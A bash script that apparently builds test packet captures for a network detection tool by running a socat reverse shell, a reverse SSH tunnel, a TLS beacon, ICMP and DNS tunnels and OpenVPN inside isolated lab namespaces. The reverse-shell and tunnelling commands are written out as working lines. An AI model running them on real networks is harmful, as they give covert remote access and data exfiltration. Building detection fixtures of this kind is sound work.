#!/usr/bin/env bash
# Records real tunnelling and remote-access tools between network namespaces (lab.sh: a "site" with a
# scanner at 10.83.0.11 and a resolver at 10.83.0.53, a router, and "Internet" hosts in
# 203.0.113.0/24). tcpdump runs on the scanner's interface; nothing leaves the namespaces. Run by hand
# as root, not in CI. Debian packages: iodine dns2tcp ptunnel-ng socat nginx-light openvpn
# dnsmasq-base openssh-server netcat-openbsd tcpdump openssl.
#
#   testdata/recordings/tools/record.sh OUTDIR [TOOL...]     (default: every tool)
#   tools: socat curl ssh ptunnel iodine dns2tcp openvpn
set -euo pipefail
out=$(realpath -m "${1:?usage: record.sh OUTDIR [TOOL...]}")
shift
tools=("$@")
[[ ${#tools[@]} -eq 0 ]] && tools=(socat curl ssh ptunnel iodine dns2tcp openvpn)
mkdir -p "$out"
work=$(mktemp -d)
source "$(dirname "$0")/../lab.sh"
cleanup() {
    set +e
    lab_capture_stop
    lab_down
    rm -rf "$work"
}
trap cleanup EXIT

# Each tool gets a fresh lab, so nothing one leaves running can appear in the next one's capture.
fresh_lab() {
    lab_down
    LAB_HOSTS=""
    lab_up
    lab_host tt-lab-scanner 10.83.0.11/24 10.83.0.1
    lab_host tt-lab-resolver 10.83.0.53/24 10.83.0.1
}
in_scanner() { ip netns exec tt-lab-scanner "$@"; }

# A reverse shell: /bin/sh on the scanner wired to an operator's socat on 203.0.113.9:4444.
record_socat() {
    lab_host tt-lab-op 203.0.113.9/24 203.0.113.1
    ( sleep 1; echo id; sleep 1; echo 'uname -a'; sleep 1; echo 'cat /etc/hostname'; sleep 1; echo 'ls /'; sleep 1; echo exit ) \
        | ip netns exec tt-lab-op socat - TCP-LISTEN:4444,reuseaddr >/dev/null &
    lab_wait_port tt-lab-op tcp 4444
    lab_capture tt-lab-scanner "$out/socat-reverse-shell.pcap" tcp port 4444
    in_scanner socat TCP:203.0.113.9:4444 EXEC:/bin/sh,stderr || true
    lab_capture_stop
}

# A beacon: curl POSTs to nginx (TLS, self-signed, SNI status.vendor-telemetry.example) five times, 3 s apart.
record_curl() {
    lab_host tt-lab-web 203.0.113.45/24 203.0.113.1
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 365 -subj "/CN=status.vendor-telemetry.example" \
        -keyout "$work/web.key" -out "$work/web.crt" 2>/dev/null
    mkdir -p "$work/nginx/logs"
    cat > "$work/nginx/nginx.conf" <<CONF
daemon off;
pid $work/nginx/nginx.pid;
error_log $work/nginx/logs/error.log;
events {}
http {
    access_log off;
    server {
        listen 203.0.113.45:443 ssl;
        server_name status.vendor-telemetry.example;
        ssl_certificate $work/web.crt;
        ssl_certificate_key $work/web.key;
        location /api/v1/hb { return 200 '{"ok":true,"next":300}'; }
    }
}
CONF
    ip netns exec tt-lab-web nginx -p "$work/nginx" -c "$work/nginx/nginx.conf" &
    lab_wait_port tt-lab-web tcp 443
    lab_capture tt-lab-scanner "$out/curl-tls-beacon.pcap" tcp port 443
    for i in 1 2 3 4 5; do
        in_scanner curl -sk --resolve status.vendor-telemetry.example:443:203.0.113.45 -A "vta/2.4.1" \
            -H 'Content-Type: application/json' -d "{\"device\":\"CT-L1\",\"seq\":$i}" \
            https://status.vendor-telemetry.example/api/v1/hb >/dev/null
        sleep 3
    done
    lab_capture_stop
}

# A reverse SSH tunnel: the scanner logs in to 203.0.113.77 and forwards the vendor's port 13389 back
# to its own 3389, through which 200 kB then travel.
record_ssh() {
    lab_host tt-lab-vendor 203.0.113.77/24 203.0.113.1
    ssh-keygen -q -t ed25519 -N '' -f "$work/host_key"
    ssh-keygen -q -t ed25519 -N '' -f "$work/client_key"
    cp "$work/client_key.pub" "$work/authorized_keys"
    mkdir -p /run/sshd
    cat > "$work/sshd_config" <<CONF
ListenAddress 203.0.113.77
HostKey $work/host_key
AuthorizedKeysFile $work/authorized_keys
PermitRootLogin prohibit-password
StrictModes no
PidFile $work/sshd.pid
GatewayPorts no
CONF
    ip netns exec tt-lab-vendor /usr/sbin/sshd -D -f "$work/sshd_config" &
    lab_wait_port tt-lab-vendor tcp 22
    in_scanner sh -c "nc -l 127.0.0.1 3389 > /dev/null" &
    lab_capture tt-lab-scanner "$out/ssh-reverse-tunnel.pcap" tcp port 22
    in_scanner ssh -i "$work/client_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ServerAliveInterval=2 \
        -N -R 13389:127.0.0.1:3389 root@203.0.113.77 &
    local ssh_pid=$!
    sleep 3
    head -c 200000 /dev/urandom | ip netns exec tt-lab-vendor nc -q 1 127.0.0.1 13389 || true
    sleep 5
    kill "$ssh_pid" 2>/dev/null || true
    lab_capture_stop
}

# An ICMP tunnel: ptunnel-ng's proxy on 203.0.113.23 forwards to its own port 2222; the scanner sends 100 kB.
record_ptunnel() {
    lab_host tt-lab-proxy 203.0.113.23/24 203.0.113.1
    ip netns exec tt-lab-proxy sh -c "nc -l 127.0.0.1 2222 > /dev/null" &
    ip netns exec tt-lab-proxy ptunnel-ng >/dev/null 2>&1 &
    sleep 1
    lab_capture tt-lab-scanner "$out/ptunnel-icmp-tunnel.pcap" icmp
    in_scanner ptunnel-ng -p203.0.113.23 -l8000 -r127.0.0.1 -R2222 >/dev/null 2>&1 &
    local client=$!
    lab_wait_port tt-lab-scanner tcp 8000
    head -c 100000 /dev/urandom | in_scanner nc -q 2 127.0.0.1 8000 || true
    sleep 2
    kill "$client" 2>/dev/null || true
    lab_capture_stop
}

# The site resolver: dnsmasq forwarding the tunnel domains to their name servers on the "Internet".
start_resolver() {
    ip netns exec tt-lab-resolver dnsmasq --no-daemon --no-resolv --no-hosts --bind-interfaces --listen-address=10.83.0.53 \
        --server="$1" --cache-size=0 --pid-file="$work/dnsmasq.pid" >/dev/null 2>&1 &
    lab_wait_port tt-lab-resolver udp 53
}

# A DNS tunnel: iodine through the site resolver to iodined for t1.tunnel.example, then pings through it.
record_iodine() {
    lab_host tt-lab-ns1 203.0.113.53/24 203.0.113.1
    start_resolver /t1.tunnel.example/203.0.113.53
    ip netns exec tt-lab-ns1 iodined -f -c -P s3cret -l 203.0.113.53 10.99.0.1 t1.tunnel.example >/dev/null 2>&1 &
    lab_wait_port tt-lab-ns1 udp 53
    lab_capture tt-lab-scanner "$out/iodine-dns-tunnel.pcap" udp port 53
    in_scanner iodine -f -r -P s3cret 10.83.0.53 t1.tunnel.example >"$work/iodine.log" 2>&1 &
    local client=$!
    for _ in $(seq 60); do grep -q "Connection setup complete" "$work/iodine.log" && break; sleep 0.5; done
    in_scanner ping -c 5 -i 0.5 10.99.0.1 >/dev/null || true
    kill "$client" 2>/dev/null || true
    lab_capture_stop
    grep -q "Connection setup complete" "$work/iodine.log" || { cat "$work/iodine.log"; return 1; }
}

# Another DNS tunnel: dns2tcp carrying a TCP stream (an echo service behind dns2tcpd) through the resolver.
# dns2tcpd runs as root without chroot: dropping to "nobody" made its first answer take 4 s (a user
# lookup timing out), longer than the client waits.
record_dns2tcp() {
    lab_host tt-lab-ns2 203.0.113.54/24 203.0.113.1
    start_resolver /t2.tunnel.example/203.0.113.54
    cat > "$work/dns2tcpd.conf" <<CONF
listen = 203.0.113.54
port = 53
domain = t2.tunnel.example
resources = echo:127.0.0.1:7
CONF
    ip netns exec tt-lab-ns2 socat TCP-LISTEN:7,bind=127.0.0.1,fork,reuseaddr EXEC:cat &
    ip netns exec tt-lab-ns2 dns2tcpd -F -f "$work/dns2tcpd.conf" >/dev/null 2>&1 &
    lab_wait_port tt-lab-ns2 udp 53
    lab_capture tt-lab-scanner "$out/dns2tcp-dns-tunnel.pcap" udp port 53
    in_scanner dns2tcpc -z t2.tunnel.example -r echo -l 7777 10.83.0.53 >"$work/dns2tcpc.log" 2>&1 &
    local client=$!
    lab_wait_port tt-lab-scanner tcp 7777
    (sleep 1; for i in 1 2 3 4 5; do echo "PAX $i DOE/JANE P L898902C3 UTO 7408122 F 1204159"; sleep 1; done) \
        | in_scanner nc -q 4 127.0.0.1 7777 >"$work/dns2tcp.echo" || true
    sleep 1
    kill "$client" 2>/dev/null || true
    lab_capture_stop
    grep -q "PAX 5" "$work/dns2tcp.echo" || { echo "dns2tcp: nothing came back"; cat "$work/dns2tcpc.log"; return 1; }
}

# A VPN: OpenVPN in TLS mode over UDP 1194 to 203.0.113.94, pings through the tunnel.
record_openvpn() {
    lab_host tt-lab-vpn 203.0.113.94/24 203.0.113.1
    (cd "$work" && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 365 -subj "/CN=vpn-ca" \
        -keyout ca.key -out ca.crt 2>/dev/null
     for who in server client; do
         openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=$who" -keyout $who.key -out $who.csr 2>/dev/null
         openssl x509 -req -in $who.csr -CA ca.crt -CAkey ca.key -CAcreateserial -days 365 -out $who.crt 2>/dev/null
     done)
    ip netns exec tt-lab-vpn openvpn --dev tun --proto udp --local 203.0.113.94 --port 1194 --tls-server --dh none \
        --ca "$work/ca.crt" --cert "$work/server.crt" --key "$work/server.key" --ifconfig 10.98.0.1 10.98.0.2 \
        --verb 0 >/dev/null 2>&1 &
    lab_wait_port tt-lab-vpn udp 1194
    lab_capture tt-lab-scanner "$out/openvpn-udp.pcap" udp port 1194
    in_scanner openvpn --dev tun --proto udp --remote 203.0.113.94 1194 --tls-client --ca "$work/ca.crt" \
        --cert "$work/client.crt" --key "$work/client.key" --ifconfig 10.98.0.2 10.98.0.1 --verb 3 >"$work/ovpn.log" 2>&1 &
    local client=$!
    for _ in $(seq 40); do grep -q "Initialization Sequence Completed" "$work/ovpn.log" && break; sleep 0.5; done
    in_scanner ping -c 5 -i 0.5 10.98.0.1 >/dev/null || true
    kill "$client" 2>/dev/null || true
    lab_capture_stop
    grep -q "Initialization Sequence Completed" "$work/ovpn.log" || { tail -5 "$work/ovpn.log"; return 1; }
}

for tool in "${tools[@]}"; do
    fresh_lab
    "record_$tool"
    echo "recorded $tool"
done
ls -la "$out"
